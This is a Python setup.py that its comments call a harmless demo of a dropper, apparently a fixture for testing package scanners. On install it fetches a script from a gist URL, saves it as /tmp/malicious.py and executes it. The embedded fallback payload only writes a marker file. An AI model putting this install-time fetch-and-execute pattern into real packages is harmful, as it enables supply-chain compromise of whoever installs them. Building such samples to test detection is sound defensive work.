# DEMO of a real dropper pattern, harmless by design: it only writes under /tmp.
# setup.py downloads a script from a gist host, saves it as /tmp/malicious.py and runs it.
import subprocess
import sys
import urllib.request

from setuptools import setup

URL = "http://gist.githubusercontent.com/ph-demo/0f0f0f0f0f0f0f0f/raw/malicious.py"
MARKER = "PH-DEMO-GIST-PAYLOAD"
# In the sandbox the download lands in a sinkhole whose answer is not the script: the embedded
# copy keeps the chain (download -> write -> exec -> marker file) complete so it is recorded.
EMBEDDED = (
    "# " + MARKER + "\n"
    "with open('/tmp/malicious-was-here', 'w') as f:\n"
    "    f.write('ph-demo-gist-dropper ran its downloaded script\\n')\n"
)

try:
    body = urllib.request.urlopen(URL, timeout=10).read().decode("utf-8", "replace")
except Exception:
    body = ""
script = body if MARKER in body else EMBEDDED
with open("/tmp/malicious.py", "w") as f:
    f.write(script)
subprocess.call([sys.executable, "/tmp/malicious.py"])

setup(
    name="ph-demo-gist-dropper",
    version="1.0.0",
    description="Look-alike of a dropper: setup.py fetches a script from a gist host and runs it",
    py_modules=["ph_demo_gist_dropper"],
)
